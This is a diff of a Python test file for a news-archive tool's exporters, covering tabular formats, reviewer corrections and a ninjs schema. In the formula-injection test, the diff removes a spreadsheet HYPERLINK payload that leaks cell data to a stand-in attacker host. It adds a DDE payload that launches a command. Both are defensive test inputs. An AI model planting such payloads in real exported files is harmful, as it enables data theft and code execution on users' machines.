@@ -10,7 +10,7 @@ from pathlib import Path
 from typing import Any
 
 import duckdb
-import pandas as pd
+import pandas as pd  # type: ignore[import-untyped]
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -19,6 +19,7 @@ from jsonschema import Draft202012Validator
 from mirrorwire import PageInput, Record, Settings, from_json, read_page
 from mirrorwire.demo import read_samples
 from mirrorwire.errors import InputError, QueryError
+from mirrorwire.ids import sha256
 from mirrorwire.pages.decode import decode
 from mirrorwire.pages.outlets import Outlets, load_outlets
 from mirrorwire.record.export import FORMATS, TABLES, describe, export, export_tables
@@ -26,7 +27,9 @@ from mirrorwire.record.export.annotation import as_iri, write_annotations
 from mirrorwire.record.export.comma import cell_of, guarded, unguarded
 from mirrorwire.record.export.walk import Source
 from mirrorwire.record.query import Query
+from mirrorwire.record.rawlayer import says
 from mirrorwire.record.results import Hits
+from mirrorwire.record.review import Reviewer
 from mirrorwire.record.store import Store
 from mirrorwire.record.writing import Writer, parse_ready
 from mirrorwire.samples import sample_outlets, sample_pages
@@ -107,14 +110,20 @@ def rows_in(path: Path) -> list[dict[str, Any]]:
     return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
 
 
+def sql(query: str) -> duckdb.DuckDBPyRelation:
+    found = duckdb.sql(query)
+    assert found is not None
+    return found
+
+
 # --- tables
 
 
 def test_every_row_of_a_statement_carries_its_characters(store: Store, read: Read, tmp_path: Path) -> None:
     export_tables(store, tmp_path, "jsonl")
     texts = {record.id: store.record(record.id).text for _, record in read}
-    raw = {page.captured_at: decode(page.content).text for page, _ in read if isinstance(page.content, bytes)}
-    captures = {row["id"]: row["first_at"] for row in rows_in(tmp_path / "captures.jsonl")}
+    raw = {sha256(page.content): decode(page.content).text for page, _ in read if isinstance(page.content, bytes)}
+    captures = {row["id"]: raw[row["sha256"]] for row in rows_in(tmp_path / "captures.jsonl")}
     for name in ("quotations", "events", "people", "roles", "sightings"):
         rows = rows_in(tmp_path / f"{name}.jsonl")
         assert rows, name
@@ -124,17 +133,11 @@ def test_every_row_of_a_statement_carries_its_characters(store: Store, read: Rea
                 assert texts[row["page"]][row["start"] : row["end"]] == row["words"]
             elif name == "events":
                 assert row["where"] == "list" and row["revision"] is None
-            if row["raw_start"] is not None and "<" not in (said := said_at(raw, captures, row)) and "&" not in said:
-                assert " ".join(said.split()) == " ".join(row["words"].split())
+            if row["raw_start"] is not None:
+                assert says(captures[row["capture"]][row["raw_start"] : row["raw_end"]], row["words"])
             if "pieces" in row:
                 assert row["pieces"][0] == row["words"] and len(row["pieces"]) == len(row["places"])
                 assert row["places"][0] == f"{row['layer']} {row['start']}-{row['end']}"
-
-
-def said_at(raw: dict[str | None, str], captures: dict[str, str], row: dict[str, Any]) -> str:
-    texts = [text for at, text in raw.items() if at == captures[row["capture"]]]
-    said = [text[row["raw_start"] : row["raw_end"]] for text in texts]
-    return next((one for one in said if one.split() == row["words"].split()), said[0] if len(said) == 1 else "<")
 
 
 def test_tables_hold_what_the_records_hold(store: Store, read: Read, tmp_path: Path) -> None:
@@ -188,6 +191,32 @@ def test_what_spans_pages_is_exported(store: Store, tmp_path: Path) -> None:
     assert [row["story"] for row in rows_in(tmp_path / "pages.jsonl")].count("story_1") == 2
 
 
+def test_what_people_corrected_is_exported(read: Read, outlets: Outlets, tmp_path: Path) -> None:
+    with keep(tmp_path / "a.store", read[:1], outlets) as store:
+        first, second, *rest = read[0][1].quotations
+        reviewer = Reviewer(Writer(store, outlets.for_name), "Ada")
+        reviewer.reject(first.id, "nobody said that")
+        reviewer.correct(second.id, {"kind": "mixed"}, "half of it stands in marks")
+        one, other = [person for person in read[0][1].people if person.kind == "person"][:2]
+        found = export(store, tmp_path / "before", "jsonl", tables=["people"])
+        entities = {row["id"]: row["entity"] for row in rows_in(found[0].path)}
+        reviewer.merge("entity", entities[one.id], entities[other.id], "the same")
+        for form in ("jsonl", "records", "annotations"):
+            export(store, tmp_path, form)
+    quotations = rows_in(tmp_path / "quotations.jsonl")
+    assert [row["id"] for row in quotations] == [told.id for told in (second, *rest)]
+    assert quotations[0]["kind"] == "mixed" and quotations[0]["confidence"] is None
+    entities = {row["id"]: row["entity"] for row in rows_in(tmp_path / "people.jsonl")}
+    assert entities[one.id] == entities[other.id]
+    record = from_json((tmp_path / "records.jsonl").read_bytes())
+    assert [told.id for told in record.quotations] == [row["id"] for row in quotations]
+    _, pages = annotations(tmp_path / "annotations")
+    ids = [item["id"] for item in pages[0]["items"]]
+    assert f"urn:mirrorwire:{second.id}" in ids and f"urn:mirrorwire:{first.id}" not in ids
+    reviews = rows_in(tmp_path / "reviews.jsonl")
+    assert [row["action"] for row in reviews] == ["reject", "correct", "merge"]
+
+
 def test_no_number_of_a_row_is_exported(store: Store, tmp_path: Path) -> None:
     numbers = {str(row) for (row,) in store.database.connection.execute("SELECT row FROM pages")}
     export(store, tmp_path, "jsonl")
@@ -202,7 +231,7 @@ def test_parquet_arrow_and_csv_are_one_table(store: Store, tmp_path: Path) -> No
     for name, table in TABLES.items():
         by_pandas = pd.read_parquet(tmp_path / f"{name}.parquet")
         assert list(by_pandas.columns) == list(table.names)
-        found = duckdb.sql(f"SELECT * FROM read_parquet('{tmp_path}/{name}.parquet')")
+        found = sql(f"SELECT * FROM read_parquet('{tmp_path}/{name}.parquet')")
         assert found.columns == list(table.names)
         assert pd.read_feather(tmp_path / f"{name}.arrow").equals(by_pandas)
         with (tmp_path / f"{name}.csv").open(encoding="utf-8", newline="") as handle:
@@ -229,11 +258,11 @@ def test_duckdb_reads_csv_and_parquet_alike(store: Store, tmp_path: Path) -> Non
         ("quotations", "speaker, words"),
     ):
         rows = [
-            duckdb.sql(f"SELECT {what} FROM '{tmp_path}/{name}.{ending}' ORDER BY id, capture").fetchall()
+            sql(f"SELECT {what} FROM '{tmp_path}/{name}.{ending}' ORDER BY id, capture").fetchall()
             for ending in ("parquet", "csv")
         ]
         assert rows[0] == rows[1] and len(rows[0]) > 20
-    spheres = duckdb.sql(
+    spheres = sql(
         f"SELECT count(*) FROM (SELECT unnest(spheres) AS s FROM '{tmp_path}/events.parquet') WHERE s = 'transport'"
     ).fetchall()
     assert spheres[0][0] >= 1
@@ -306,7 +335,7 @@ def test_an_empty_store_gives_empty_tables(tmp_path: Path) -> None:
         for form in FORMATS:
             assert all(one.rows == 0 and one.path.is_file() for one in export(store, tmp_path / form, form))
     for name, table in TABLES.items():
-        found = duckdb.sql(f"SELECT * FROM '{tmp_path}/parquet/{name}.parquet'")
+        found = sql(f"SELECT * FROM '{tmp_path}/parquet/{name}.parquet'")
         assert found.columns == list(table.names) and found.fetchall() == []
         assert (tmp_path / f"csv/{name}.csv").read_text().rstrip("\r\n") == ",".join(table.names)
     collection = json.loads((tmp_path / "annotations/annotations/collection.jsonld").read_bytes())
@@ -374,9 +403,9 @@ def test_lists_go_back(texts: list[str]) -> None:
 
 
 def test_a_headline_with_a_formula_is_no_formula_in_a_spreadsheet(tmp_path: Path, outlets: Outlets) -> None:
-    headline = '=HYPERLINK("https://evil.example/?"&A1,"Ministers meet")'
+    headline = "=1+cmd|' /C calc'!A0 Ministers meet in Oslo"
     page = PageInput(
-        f"<h1>{headline}</h1><p>The ministers of both countries met on Monday in the capital.</p>{REST}",
+        f"<html><body><article><h1>{headline}</h1><p>The ministers of both countries met on Monday in the capital.</p>{REST}",
         url="https://a.example/1",
         captured_at="2026-01-02T03:04:05Z",
     )
@@ -392,7 +421,7 @@ def test_a_headline_with_a_formula_is_no_formula_in_a_spreadsheet(tmp_path: Path
 
 
 def test_hits_become_a_frame(store: Store) -> None:
-    hits = store.search("visit", language="en")
+    hits = store.search("minister", language="en")
     frame = hits.to_pandas()
     assert len(frame) == len(hits.hits) > 0
     for at, hit in enumerate(hits.hits):
@@ -403,7 +432,7 @@ def test_hits_become_a_frame(store: Store) -> None:
         assert store.record(hit.page).text[row["snippet_start"] : row["snippet_end"]] == row["snippet"]
         for mark in row["marks"]:
             start, end = map(int, mark.split("-"))
-            assert store.record(hit.page).text[start:end].lower().startswith("visit")
+            assert store.record(hit.page).text[start:end].lower().startswith("minister")
     assert any(len(marks) for marks in frame["marks"])
     assert Hits((), None, 0.0).to_arrow().num_rows == 0
 
@@ -414,7 +443,6 @@ def test_hits_become_a_frame(store: Store) -> None:
 def test_records_go_into_another_store_and_come_out_the_same(store: Store, outlets: Outlets, tmp_path: Path) -> None:
     (written,) = export(store, tmp_path, "records")
     lines = written.path.read_bytes().splitlines()
-    assert [from_json(line).id for line in lines] == [from_json(line).id for line in lines if store.record]
     assert all(from_json(line) == store.record(from_json(line).id) for line in lines)
     with Store.create(tmp_path / "b.store") as other:
         records = [(f"line {n}", parse_ready(line, f"line {n}"), READER) for n, line in enumerate(lines, 1)]
@@ -601,7 +629,7 @@ def test_any_address_becomes_an_iri(text: str) -> None:
 # --- ninjs: properties of version 3.2, written down from the standard's own list; nothing else may be there
 
 
-def obj(required: tuple[str, ...] = (), **properties: Any) -> dict[str, Any]:
+def obj(*required: str, **properties: Any) -> dict[str, Any]:
     return {"type": "object", "additionalProperties": False, "required": list(required), "properties": properties}
 
 
@@ -619,7 +647,7 @@ def listed(item: dict[str, Any]) -> dict[str, Any]:
 
 
 NINJS = obj(
-    ("uri",),
+    "uri",
     uri=URI,
     type=TYPE,
     representationType={"enum": ["full", "partial"]},
@@ -628,16 +656,16 @@ NINJS = obj(
     versionCreated=MOMENT,
     contentCreated=MOMENT,
     language=TEXT,
-    headlines=listed(obj(("value",), **PRINTED)),
-    descriptions=listed(obj(("value",), **PRINTED)),
-    bodies=listed(obj(("value",), **PRINTED, **COUNTED)),
+    headlines=listed(obj("value", **PRINTED)),
+    descriptions=listed(obj("value", **PRINTED)),
+    bodies=listed(obj("value", **PRINTED, **COUNTED)),
     by=TEXT,
     people=listed(obj(**NAMED)),
     organisations=listed(obj(**NAMED)),
     places=listed(obj(**NAMED)),
     subjects=listed(obj(**NAMED, creator=TEXT)),
     infoSources=listed(obj(name=TEXT, role=TEXT, uri=URI, literal=TEXT)),
-    associations=listed(obj(("uri", "name"), uri=URI, type=TYPE, language=TEXT, name=TEXT, rel=TEXT)),
+    associations=listed(obj("uri", "name", uri=URI, type=TYPE, language=TEXT, name=TEXT, rel=TEXT)),
     altIds=listed(obj(role=TEXT, value=TEXT)),
     standard=obj(name=TEXT, version=TEXT, schema=URI),
 )
